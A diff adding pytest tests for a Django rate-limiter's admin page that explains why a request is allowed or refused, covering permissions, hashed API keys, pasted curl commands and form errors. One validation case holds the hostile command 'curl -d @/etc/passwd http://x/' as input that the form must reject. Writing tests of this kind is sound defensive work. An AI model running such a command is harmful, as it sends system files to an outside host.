@@ -1,0 +1,162 @@
+"""The page that explains a request."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+from django.contrib.auth.models import User
+from django.db import connection
+from django.test import Client
+from django.test.utils import CaptureQueriesContext
+from django.urls import reverse
+
+from django_ratelimiter.identity import hash_api_key
+from django_ratelimiter.models import AccessEntry, Rule, Tier, TierAssignment
+from tests.doors.conftest import MakeRule, make_rule, people
+
+__all__ = ["make_rule", "people"]
+
+pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.urls("tests.explain.urls")]
+
+ALL = ("view_rule", "view_usage_report", "view_tierassignment", "view_accessentry")
+
+
+def page(client: Client, **given: Any) -> Any:
+    return client.post(reverse("admin:django_ratelimiter_explain"), {"method": "GET", "ip": "203.0.113.7", **given})
+
+
+def test_it_says_what_is_answered_and_why(operator: Callable[..., Client], make_rule: MakeRule, people: None) -> None:
+    make_rule("ip", quota=1, partition_by=["ip"], message="Slow <b>down</b>.")
+    make_rule("posts", methods=["POST"])
+    Client().get("/hello/", REMOTE_ADDR="203.0.113.7")
+    text = page(operator(*ALL), path="/hello/", user="ann").content.decode()
+    assert "Rejected with status 429 by ip." in text
+    assert "1 of 1 used, 0 left; blocked until" in text
+    assert "Method: it is for POST, and this is GET." in text
+    assert "Retry-After: 86400" in text
+    assert "Slow &lt;b&gt;down" in text
+    assert "Slow <b>" not in text
+
+
+def test_its_address_prefills_it_and_asks_at_once(operator: Callable[..., Client], make_rule: MakeRule) -> None:
+    make_rule("ip", partition_by=["ip"])
+    client, address = operator(*ALL), reverse("admin:django_ratelimiter_explain")
+    asked = client.get(address, {"path": "/hello/", "ip": "203.0.113.7"})
+    assert asked.context["answer"] == "Allowed."
+    prefilled = client.get(address, {"ip": "203.0.113.7"})
+    assert "explanation" not in prefilled.context
+    assert 'value="203.0.113.7"' in prefilled.content.decode()
+
+
+def test_secrets_are_not_taken_from_an_address(operator: Callable[..., Client], make_rule: MakeRule) -> None:
+    make_rule("key", partition_by=["api_key"])
+    TierAssignment.objects.create(
+        tier=Tier.objects.create(slug="pro", name="Pro", rank=1), api_key_hash=hash_api_key("s")
+    )
+    client, address = operator(*ALL), reverse("admin:django_ratelimiter_explain")
+    by_raw = client.get(address, {"path": "/hello/", "api_key": "s"})
+    assert by_raw.context["applying"] == []
+    by_hash = client.get(address, {"path": "/hello/", "api_key": hash_api_key("s")})
+    assert [rule["name"] for rule in by_hash.context["applying"]] == ["key"]
+    assert [rule["name"] for rule in page(client, path="/hello/", api_key="s").context["applying"]] == ["key"]
+
+
+def test_a_curl_command_and_a_line_of_the_log_are_pasted(
+    operator: Callable[..., Client], make_rule: MakeRule, caplog: pytest.LogCaptureFixture
+) -> None:
+    make_rule("org", quota=1, partition_by=["header:X-Org"], path_kind="exact", path="/hello/")
+    client = operator(*ALL)
+    command = "curl 'https://example.org/hello/' \\\n  -H 'X-Org: acme'"
+    assert page(client, pasted=command).context["answer"] == "Allowed."
+    for _ in range(2):
+        Client().get("/hello/", headers={"X-Org": "acme"})
+    record = next(each for each in caplog.records if "was refused" in each.message)
+    line = json.dumps({"message": record.message, "rule": record.rule, "partition": record.partition})
+    prefilled = page(client, pasted=line, ip="").context["form"]
+    assert (prefilled.initial["path"], prefilled.initial["digest"]) == ("/hello/", record.partition)
+    for org, found in (("acme", True), ("other", False)):
+        shown = page(client, path="/hello/", headers=f"X-Org: {org}", digest=record.partition)
+        assert shown.context["digest_found"] is found
+
+
+@pytest.mark.parametrize(
+    ("codenames", "status"),
+    [((), 403), (("view_usage_report",), 403), (("view_rule",), 200), (("change_rule",), 200), (ALL, 200)],
+)
+def test_it_needs_the_view_of_rules(operator: Callable[..., Client], codenames: tuple[str, ...], status: int) -> None:
+    client = operator(*codenames)
+    assert client.get(reverse("admin:django_ratelimiter_explain")).status_code == status
+    assert page(client, path="/hello/").status_code == status
+
+
+def test_counters_tiers_and_entries_need_a_permission_each(
+    operator: Callable[..., Client], make_rule: MakeRule, people: None
+) -> None:
+    pro = Tier.objects.create(slug="pro", name="Gold", rank=1)
+    TierAssignment.objects.create(tier=pro, user=User.objects.get(username="ann"))
+    make_rule("all", tier=pro)
+    make_rule("other", partition_by=["user"])
+    client = operator("view_rule")
+    text = page(client, path="/hello/", user="ann").content.decode()
+    assert "Gold" not in text
+    assert "RateLimit" not in text
+    assert "used" not in text
+    assert "user" not in page(client, path="/hello/", user="nobody").context["form"].errors  # asks after nobody
+    AccessEntry.objects.create(action="deny", kind="ip", value="203.0.113.7", reason="scraper")
+    assert "scraper" not in page(client, path="/hello/").content.decode()
+
+
+def test_a_tier_is_shown_to_who_may_see_assignments(
+    operator: Callable[..., Client], make_rule: MakeRule, people: None
+) -> None:
+    pro = Tier.objects.create(slug="pro", name="Gold", rank=1)
+    TierAssignment.objects.create(tier=pro, user=User.objects.get(username="ann"))
+    make_rule("all", tier=pro)
+    text = page(operator("view_rule", "view_tierassignment"), path="/hello/", user="ann").content.decode()
+    assert "Gold, assigned to the user ann" in text
+    assert "RateLimit" not in text
+
+
+@pytest.mark.parametrize(
+    ("given", "field"),
+    [
+        ({"path": ""}, "path"),
+        ({"path": "/hello/", "user": "nobody"}, "user"),
+        ({"path": "/hello/", "headers": "a b: c"}, "headers"),
+        ({"path": "/hello/", "identities": "nothing"}, "identities"),
+        ({"pasted": "curl -d @/etc/passwd http://x/"}, "pasted"),
+        ({"view": "nothing"}, "view"),
+    ],
+)
+def test_errors_stand_at_their_fields(operator: Callable[..., Client], given: dict[str, str], field: str) -> None:
+    response = page(operator(*ALL), **given)
+    assert (response.status_code, list(response.context["form"].errors)) == (200, [field])
+
+
+def test_queries_do_not_grow_with_rules(operator: Callable[..., Client], make_rule: MakeRule, people: None) -> None:
+    client = operator(*ALL)
+    make_rule("first", partition_by=["user"])
+
+    def queries() -> int:
+        with CaptureQueriesContext(connection) as captured:
+            assert page(client, path="/hello/", user="ann").status_code == 200
+        return len(captured)
+
+    queries()
+    few = queries()
+    for number in range(30):
+        Rule.objects.create(slug=f"rule{number}", name=f"Rule {number}", methods=["POST"])
+    queries()
+    assert queries() == few <= 40
+
+
+def test_nothing_that_is_typed_breaks_it(operator: Callable[..., Client], make_rule: MakeRule) -> None:
+    make_rule("all")
+    client = operator(*ALL)
+    for text in ("\0", "ü€", "<script>", "%", "%zz", "x" * 5_000, "http://[", "\ud800", "a\nb"):
+        for name in ("path", "view", "user", "api_key", "session", "headers", "identities", "body", "pasted", "method"):
+            encoded = text.encode("utf-8", "replace").decode()
+            assert page(client, **{"path": "/hello/", name: encoded}).status_code == 200, (name, text)
